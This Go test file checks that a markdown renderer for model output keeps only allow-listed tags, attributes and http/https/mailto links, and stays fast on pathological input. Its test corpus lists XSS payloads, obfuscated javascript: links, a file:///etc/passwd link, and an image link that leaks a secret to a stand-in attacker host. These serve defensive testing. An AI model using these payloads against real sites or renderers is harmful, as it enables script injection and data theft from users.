package markdown

import (
	"encoding/json"
	"io/fs"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/gobdk/bdk/transport/playground"
)

func shown(t *testing.T, source string) string {
	t.Helper()
	b, err := json.Marshal(Tree(source))
	if err != nil {
		t.Fatal(err)
	}
	return strings.NewReplacer(`\u003c`, "<", `\u003e`, ">", `\u0026`, "&").Replace(string(b))
}

func TestTree_Markdown(t *testing.T) {
	t.Parallel()
	for source, want := range map[string]string{
		"":                              `[]`,
		"# A *b*\n\nc\nd  \ne":          `[["h1",{},"A ",["em",{},"b"]],["p",{},"c\nd",["br",{}],"e"]]`,
		"**a** ~~b~~ `c & d`":           `[["p",{},["strong",{},"a"]," ",["del",{},"b"]," ",["code",{},"c & d"]]]`,
		"- a\n- b\n  1. c":              `[["ul",{},["li",{},"a"],["li",{},"b",["ol",{},["li",{},"c"]]]]]`,
		"3. a\n\n4. b":                  `[["ol",{"start":3},["li",{},["p",{},"a"]],["li",{},["p",{},"b"]]]]`,
		"- [x] a\n- [ ] b":              `[["ul",{},["li",{},["input",{"checked":true,"disabled":true,"type":"checkbox"}],"a"],["li",{},["input",{"checked":false,"disabled":true,"type":"checkbox"}],"b"]]]`,
		"> a":                           `[["blockquote",{},["p",{},"a"]]]`,
		"```ts\nlet a = 1;\n```":        `[["pre",{"language":"ts"},["code",{},"let a = 1;\n"]]]`,
		"    a\n\n---":                  `[["pre",{},["code",{},"a\n"]],["hr",{}]]`,
		"|a|b|\n|-|-:|\n|1|**2**|":      `[["table",{},["thead",{},["tr",{},["th",{},"a"],["th",{"align":"right"},"b"]]],["tbody",{},["tr",{},["td",{},"1"],["td",{"align":"right"},["strong",{},"2"]]]]]]`,
		"[a](https://b.test/c?d=e&f)":   `[["p",{},["a",{"href":"https://b.test/c?d=e&f"},"a"]]]`,
		"see https://b.test, me@b.test": `[["p",{},"see ",["a",{"href":"https://b.test"},"https://b.test"],", ",["a",{"href":"mailto:me@b.test"},"me@b.test"]]]`,
		"&lt;b&gt; \\*a\\* &#x3b;":      `[["p",{},"<b> *a* ;"]]`,
		"a <b>c</b>":                    `[["p",{},"a <b>c</b>"]]`,
		"<div onclick=x>\na\n</div>":    `[["p",{},"<div onclick=x>\na\n</div>"]]`,
		"![cat](https://b.test/c.png)":  `[["p",{},["a",{"href":"https://b.test/c.png"},"cat (https://b.test/c.png)"]]]`,
		"[a](docs/b.md)":                `[["p",{},"a"]]`,
	} {
		if got := shown(t, source); got != want {
			t.Errorf("%q is\n%s, want\n%s", source, got, want)
		}
	}
}

// S18: "Model text … rendered as text or through a sanitiser *after* markdown; no raw HTML;
// links only http/https/mailto …; images off … Corpus: <img onerror>, [x](javascript:…),
// ![](http://attacker/?q=secret), mermaid/katex, SVG, RTL override".
func TestTree_Corpus(t *testing.T) {
	t.Parallel()
	for _, source := range corpus {
		check(t, source, Tree(source))
	}
}

var corpus = []string{
	`<img src=x onerror=alert(1)>`, `<script>alert(1)</script>`, "<svg onload=alert(1)>\n<circle/></svg>", `<iframe srcdoc="<script>alert(1)</script>">`,
	`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, `[x](java&#10;script:alert(1))`, `[x](&#106;avascript:alert(1))`, `[x](<java script:alert(1)>)`, `[x](\javascript:alert(1))`,
	"[x](\x01javascript:alert(1))", `[x](vbscript:x)`, `[x](data:text/html;base64,PHNjcmlwdD4=)`, `[x](file:///etc/passwd)`, `[x](//evil.test)`, `[x](/v1/sessions)`, `[x](blob:https://a.test/1)`,
	`<javascript:alert(1)>`, `<data:text/html,x>`, "[x]: javascript:alert(1)\n\n[x]", `[x](https://user:pass@evil.test)`, `[x](https://)`, `[x](https:evil.test)`, `[x](mailto:)`,
	`![](http://attacker.test/?q=secret)`, `![a](javascript:alert(1))`, `[![a](http://attacker.test/a.png)](javascript:alert(1))`, `![x](x "onerror=alert(1)")`,
	"```mermaid\ngraph TD; A-->B; click A \"javascript:alert(1)\"\n```", `$\href{javascript:alert(1)}{x}$`, `<math><mtext></mtext></math>`,
	"a\u202egnp.exe", "[a\u202eb](https://a.test/\u202ecba)", "`a\u2066b`", "```\u202e\nx\n```", "![a\u202e](https://a.test/\u202e)", "\U000E0041hidden",
	`<a href="https://a.test" onclick="x">a</a>`, `"><script>alert(1)</script>`, "`<b>`", "<!-- -->", "<?php ?>", "<![CDATA[x]]>", "<style>*{}</style>", `<base href=//evil.test>`, `<form action=//evil.test><input name=a>`,
	"| <img src=x onerror=1> |\n|-|\n| [x](javascript:1) |", "- [ ] <input autofocus onfocus=alert(1)>", "# <b onmouseover=1>x</b>", "www.a.test/<script>", "http://a.test/\"onmouseover=alert(1)",
	"\x00<b>", "\xff\xfe<b>",
}

var allowed = strings.Fields("p h1 h2 h3 h4 h5 h6 ul ol li pre code em strong del blockquote table thead tbody tr th td a br hr input")

var allowedAttributes = map[string][]string{
	"a": {"href"}, "input": {"type", "disabled", "checked"}, "ol": {"start"}, "th": {"align"}, "td": {"align"}, "pre": {"language"},
}

// check holds a tree against the allow list.
func check(t *testing.T, source string, nodes []Node) {
	t.Helper()
	for _, n := range nodes {
		if s, ok := n.(string); ok {
			if strings.ContainsFunc(s, hidden) {
				t.Errorf("%q: hidden characters in %q", source, s)
			}
			continue
		}
		e := n.(Element)
		tag := e[0].(string)
		if !slices.Contains(allowed, tag) {
			t.Errorf("%q: an element %s", source, tag)
		}
		for name, value := range e[1].(attributes) {
			if !slices.Contains(allowedAttributes[tag], name) {
				t.Errorf("%q: %s has %s", source, tag, name)
			}
			if name == "href" {
				checkAddress(t, source, value.(string))
			}
		}
		children := make([]Node, len(e)-2)
		for i, c := range e[2:] {
			children[i] = c
		}
		check(t, source, children)
	}
}

func checkAddress(t *testing.T, source, href string) {
	t.Helper()
	u, err := url.Parse(href)
	if err != nil || !slices.Contains([]string{"http", "https", "mailto"}, u.Scheme) || strings.ContainsFunc(href, hidden) || u.User != nil {
		t.Errorf("%q: a link to %q", source, href)
	}
}

// The page makes elements of the same tags, and no other.
func TestTree_IsWhatThePageKnows(t *testing.T) {
	t.Parallel()
	source, err := fs.ReadFile(playground.Sources(), "web/markdown.ts")
	if err != nil {
		t.Fatal(err)
	}
	m := regexp.MustCompile(`const tags = new Set\("([^"]+)"`).FindSubmatch(source)
	if m == nil || !slices.Equal(strings.Fields(string(m[1])), allowed) {
		t.Errorf("the page knows %q, the tree has %q", m, allowed)
	}
}

// "bounded size": a text that is large, or built to be slow, costs little.
func TestTree_Bounds(t *testing.T) {
	t.Parallel()
	for _, part := range []string{
		">", "[", "[]", "[a](", "![", "![](", "*", "*a ", "_a**b ", "`a``", "`a ", "<", "<a ", "- ", "~~a", "|a", "[a]: b\n", "[a][b] ", "www.", "http://", "a@", "a.b@c.", "&amp", `\`, "<!-", "<![CDATA[", "<?", "# ",
		"\n", "1. ", "a_", "a\n", "a\n=", "<div>\n\n", "<a b=\"", "<a href='x'>", "```\n", "- [ ] a\n", "\t", "[a](b(", "a\n\n", strings.Repeat(">", 190) + "a\n\n", strings.Repeat("[", 190) + "\n", "|a\n|-\n",
	} {
		for _, size := range []int{MaxBytes, MaxBytes + 8} {
			source := strings.Repeat(part, size/len(part)+1)[:size]
			nodes := Tree(source)
			if size > MaxBytes && (len(nodes) != 1 || nodes[0].(Element)[0] != "pre") {
				t.Errorf("%q: a text over the bound is not shown as it is", part)
			}
		}
	}
}

// A long text that people write is read as a whole, piece by piece.
func TestTree_Long(t *testing.T) {
	t.Parallel()
	code := "```\n" + strings.Repeat("a\n\n", 1000) + "```\n\n"
	source := strings.Repeat("**a** b\n\n", 3000) + code + strings.Repeat("- c\n\n", 1000)
	nodes := Tree(source)
	count := map[string]int{}
	for _, n := range nodes {
		count[n.(Element)[0].(string)]++
	}
	if count["p"] != 3000 || count["pre"] != 1 || count["ul"] == 0 {
		t.Errorf("%v", count)
	}
	if strings.Join(pieces(source), "") != source {
		t.Error("the pieces are not the text")
	}
}

// A row that is shorter than its table has empty cells for the rest of it.
func TestTree_EmptyCells(t *testing.T) {
	t.Parallel()
	for _, before := range []string{"", "> ", "  ", "- "} {
		under := strings.ReplaceAll(before, "-", " ")
		rows := func(columns, rows int) string {
			return before + strings.Repeat("|a", columns) + "|\n" + under + strings.Repeat("|-", columns) + "|\n" + strings.Repeat(under+"|\n", rows)
		}
		if got := shown(t, rows(100, 2000)); !strings.HasPrefix(got, `[["pre",{},`) {
			t.Errorf("%q: 200000 empty cells are %d bytes: %.60s", before, len(got), got)
		}
		if got := shown(t, rows(50, 300)); !strings.Contains(got, `["table",`) {
			t.Errorf("%q: a table of 50 columns is %.60s", before, got)
		}
		if got := shown(t, strings.Repeat(rows(10, 5)+"\n"+strings.Repeat("text\n", 100)+"\n", 12)); !strings.Contains(got, `["table",`) {
			t.Errorf("%q: text after tables is counted: %.60s", before, got)
		}
	}
}

// What takes the square of its length to read is shown as it is: links that are begun
// again and again, and stars and underscores by the thousand. What people write is read.
func TestTree_SlowTexts(t *testing.T) {
	t.Parallel()
	fill := func(part string) string { return strings.Repeat(part, maxPiece/len(part)-1) + "\n\n" }
	for _, part := range []string{"[a](", "![](", "[a](b(", "[[a]](", "**[a](b", "[`a`](", "*a_ ", "_a**b ", "[a](b\n", ") [a]( ![](\n"} {
		if got := shown(t, fill(part)); !strings.HasPrefix(got, `[["pre",{},`) {
			t.Errorf("%q is read: %.60s", part, got)
		}
	}
	for _, part := range []string{"[a](<", "[](", "[[a]](", `[a](\)`, "[a](<)"} {
		if got := shown(t, strings.Repeat(")", maxPiece/2)+fill(part)[maxPiece/2:]); !strings.HasPrefix(got, `[["pre",{},`) {
			t.Errorf("%q after brackets that end nothing is read: %.60s", part, got)
		}
	}
	for _, part := range []string{"[a](https://b.c/) ", "- [a](https://b.c/d_(e))\n", "**one** _two_ three four five six\n", "*a* b\n\n", "`snake_case_name` and text of some length, "} {
		if got := shown(t, fill(part)); strings.Contains(got, `["pre",`) || len(got) < maxPiece {
			t.Errorf("%q is not read: %.60s", part, got)
		}
	}
}
